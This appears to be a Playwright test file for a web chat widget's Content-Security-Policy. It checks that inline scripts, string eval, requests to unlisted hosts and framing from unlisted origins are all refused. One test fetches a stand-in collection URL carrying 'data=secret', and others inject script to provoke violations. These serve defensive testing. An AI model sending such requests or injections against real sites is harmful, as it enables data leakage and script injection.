/**
 * Issue 6 §1, content security: the built site runs with its Content-Security-Policy on (the <meta>
 * from the build and the `_headers` file, served by scripts/serveBuild.ts), and every test fails on
 * a violation (helpers/test.ts). These tests show that the watch really catches violations, that the
 * page narrows connect-src at start to the catalog and the stored custom model hosts (a new custom
 * host is allowed after a reload, which the form offers), and that only the deploy-time origins
 * (http://localhost:* in the test build, see playwright.config.ts) can frame the widget.
 */
import { fileURLToPath } from 'node:url';
import { test, expect, type Page } from './helpers/test.ts';
import { APP_ORIGIN } from './helpers/origin.ts';
import { startStaticServer, type StaticServer } from '../../scripts/staticServer.ts';

const fixtures = fileURLToPath(new URL('../fixtures/embed/', import.meta.url));
let hostPages: StaticServer;

test.beforeAll(async () => {
  hostPages = await startStaticServer([{ prefix: '/', dir: fixtures }]);
});
test.afterAll(async () => {
  await hostPages.close();
});

/** fetch() from the page: 'ok' or the error's name. */
function fetchFromPage(page: Page, url: string): Promise<string> {
  return page.evaluate(
    (u) =>
      fetch(u).then(
        () => 'ok',
        (e: unknown) => (e instanceof Error ? e.name : String(e)),
      ),
    url,
  );
}

test('an inline script is refused, and the watch reports it as a violation that would fail the test', async ({
  page,
  csp,
}) => {
  await page.goto('./');
  await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.head.append(script);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return (window as unknown as { __injected?: boolean }).__injected === true;
  });
  expect(ran).toBe(false);
  // Unexpected until declared: this is what fails any other test.
  await expect
    .poll(() =>
      csp
        .unexpected()
        .map((v) => v.text)
        .join('\n'),
    )
    .toMatch(/script-src/);
  csp.expectViolation(/script-src|inline script/);
});

test("eval is refused in the app's origin", async ({ page, csp }) => {
  await page.goto('./');
  await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
  // Playwright's own evaluation is exempt from the policy; a string timer is compiled by the page.
  const evaluated = await page.evaluate(async () => {
    (setTimeout as (code: string, ms: number) => number)('window.__evaled = true', 0);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return (window as unknown as { __evaled?: boolean }).__evaled === true;
  });
  expect(evaluated).toBe(false);
  await expect
    .poll(() =>
      csp
        .unexpected()
        .map((v) => v.text)
        .join('\n'),
    )
    .toMatch(/unsafe-eval|script-src/);
  csp.expectViolation(/unsafe-eval|script-src|evaluate a string/);
});

test('the page may reach the catalog model hosts but no other host (connect-src, narrowed at start)', async ({
  page,
  context,
  csp,
}) => {
  await context.route(/^https:\/\/(huggingface\.co|raw\.githubusercontent\.com|example\.com)\//, (route) =>
    route.fulfill({ status: 200, body: '{}', headers: { 'access-control-allow-origin': '*' } }),
  );
  await page.goto('./');
  await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
  expect(await fetchFromPage(page, 'https://huggingface.co/mlc-ai/x/resolve/main/mlc-chat-config.json')).toBe('ok');
  expect(await fetchFromPage(page, 'https://raw.githubusercontent.com/mlc-ai/binary-mlc-llm-libs/main/x.wasm')).toBe(
    'ok',
  );
  // The static policy allows any https: host (custom models); the runtime policy does not.
  expect(await fetchFromPage(page, 'https://example.com/collect?data=secret')).toBe('TypeError');
  await expect
    .poll(() =>
      csp
        .unexpected()
        .map((v) => v.text)
        .join('\n'),
    )
    .toContain('example.com');
  csp.expectViolation(/example\.com/);
});

test('a custom model from a new host is allowed after the reload the form offers', async ({ page, context }) => {
  await context.route('https://models.example/**', (route) =>
    route.fulfill({ status: 200, body: '{}', headers: { 'access-control-allow-origin': '*' } }),
  );
  await page.goto('./');
  await page.getByTestId('model-button').click();
  const picker = page.getByTestId('model-picker');
  await expect(picker.getByTestId('gpu-summary')).toBeVisible();
  await picker.getByText('Add a custom model').click();
  const form = picker.getByTestId('custom-model-form');
  await form.getByLabel('Display name').fill('My model');
  await form.getByLabel('MLC weights URL').fill('https://models.example/my-model/resolve/main/');
  await form
    .getByRole('textbox', { name: 'Library URL' })
    .fill('https://models.example/libs/my-model-v0_2_86-webgpu.wasm');
  // The online check would be refused by this page's policy: it is postponed, not attempted.
  await form.getByLabel(/Check now/).check();
  await form.getByRole('button', { name: 'Save custom model' }).click();
  await expect(form.getByRole('status')).toContainText('Saved “My model”');
  await expect(form.getByRole('status')).toContainText('Not checked online yet');
  await expect(form.getByTestId('custom-model-reload')).toContainText(
    'Reload it to allow downloads from https://models.example',
  );

  await form.getByRole('button', { name: 'Reload now' }).click();
  await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
  expect(await fetchFromPage(page, 'https://models.example/my-model/resolve/main/mlc-chat-config.json')).toBe('ok');
});

test('only the deploy-time origins can frame the widget', async ({ page, csp }) => {
  await page.addInitScript(() => {
    window.__CALLAMA_FAKE__ = { loadMs: 50, rules: [{ match: 'hello', reply: 'Hello there.' }] };
  });
  // Allowed: a http://localhost page (the test build allows http://localhost:*).
  await page.goto(
    `${hostPages.url('localhost')}/framer.html?allowed=${encodeURIComponent(hostPages.url('localhost'))}&widget=${encodeURIComponent(APP_ORIGIN)}`,
  );
  const widget = page.frameLocator('iframe[title="Callama"]');
  await widget.getByTestId('embed-input').fill('hello');
  await widget.getByTestId('embed-input').press('Enter');
  await expect(widget.getByTestId('assistant-message').last()).toHaveText('Hello there.');

  // Refused: the same page from http://127.0.0.1, which is not on the list.
  await page.goto(
    `${hostPages.url('127.0.0.1')}/framer.html?allowed=${encodeURIComponent(hostPages.url('127.0.0.1'))}&widget=${encodeURIComponent(APP_ORIGIN)}`,
  );
  await expect
    .poll(() =>
      csp
        .unexpected()
        .map((v) => v.text)
        .join('\n'),
    )
    .toMatch(/frame-ancestors/);
  csp.expectViolation(/frame-ancestors/);
  await expect(page.frameLocator('iframe[title="Callama"]').getByTestId('embed-input')).toHaveCount(0);
});
